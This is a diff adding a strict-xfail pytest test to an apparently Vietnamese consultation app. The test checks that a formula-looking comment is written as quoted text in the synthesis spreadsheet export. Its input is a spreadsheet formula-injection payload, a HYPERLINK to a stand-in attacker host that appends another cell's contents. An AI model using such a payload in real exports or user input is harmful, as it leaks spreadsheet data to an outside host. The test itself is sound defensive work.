@@ -226,3 +226,31 @@ def test_safe_row_leaves_numbers_and_plain_text_alone():
         ("=A1", "s", True),
         ("- gạch đầu dòng", "s", True),
     ]
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="consultations/synthesis/export.py (the lead's area) writes comment text as is; it must "
+    "append rows through common.exports.safe_row like the roll-up does (docs/security.md, F6)",
+)
+def test_a_comment_that_looks_like_a_formula_is_text_in_the_synthesis_workbook(world):
+    import io
+
+    import openpyxl
+
+    from chuyende.consultations.domain import submit_comment
+    from chuyende.consultations.enums import Stance
+    from chuyende.consultations.synthesis.export import groups_xlsx
+
+    consultation = consultation_for(world)
+    text = '=HYPERLINK("http://ke-gian.example/?"&B2,"Xem chi tiết")'
+    submit_comment(
+        actor=world.users["member"],
+        consultation=consultation,
+        stance=Stance.AGREE,
+        text=text,
+        idempotency_key="k",
+    )
+    book = openpyxl.load_workbook(io.BytesIO(groups_xlsx(consultation)))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value == text]
+    assert [(cell.data_type, cell.quotePrefix) for cell in cells] == [("s", True)]
